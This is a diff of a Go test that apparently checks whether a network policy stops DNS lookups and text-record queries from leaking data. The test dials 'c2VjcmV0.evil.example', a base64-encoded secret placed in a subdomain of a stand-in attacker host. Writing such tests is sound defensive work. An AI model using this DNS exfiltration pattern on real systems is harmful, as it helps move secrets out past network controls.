@@ -7,13 +7,13 @@ import (
 	"testing"
 )
 
-// TestN06_NamesUnderRanges has a program ask, beside a rule for a range, for a name that carries a secret, and for text
-// that an attacker's name server would answer with.
+// TestN06_NamesUnderRanges looks up, under rules for ranges, a name that carries a secret, and asks for text records, with
+// which an attacker's name server could answer.
 func TestN06_NamesUnderRanges(t *testing.T) {
 	i, l := newInternet(t), newLab(t)
 	d := i.nameServer(map[string][]string{"c2VjcmV0.evil.example": {server4}, "db.corp.example": {server4}})
 	port := i.serve(server4+":0", welcome)
-	p := list("{cidr: "+server4+"/32, ports: ["+port+"], dns: [corp.example]}", "{cidr: 0.0.0.0/0, protocol: udp}")
+	p := listPolicy("{cidr: "+server4+"/32, ports: ["+port+"], dns: [corp.example]}", "{cidr: 0.0.0.0/0, protocol: udp}")
 	var dialled, asked result
 	i.withNameServer(func() *live {
 		return l.start(l.spec(p, "client", "dial", "db.corp.example:"+port, "c2VjcmV0.evil.example:"+port))
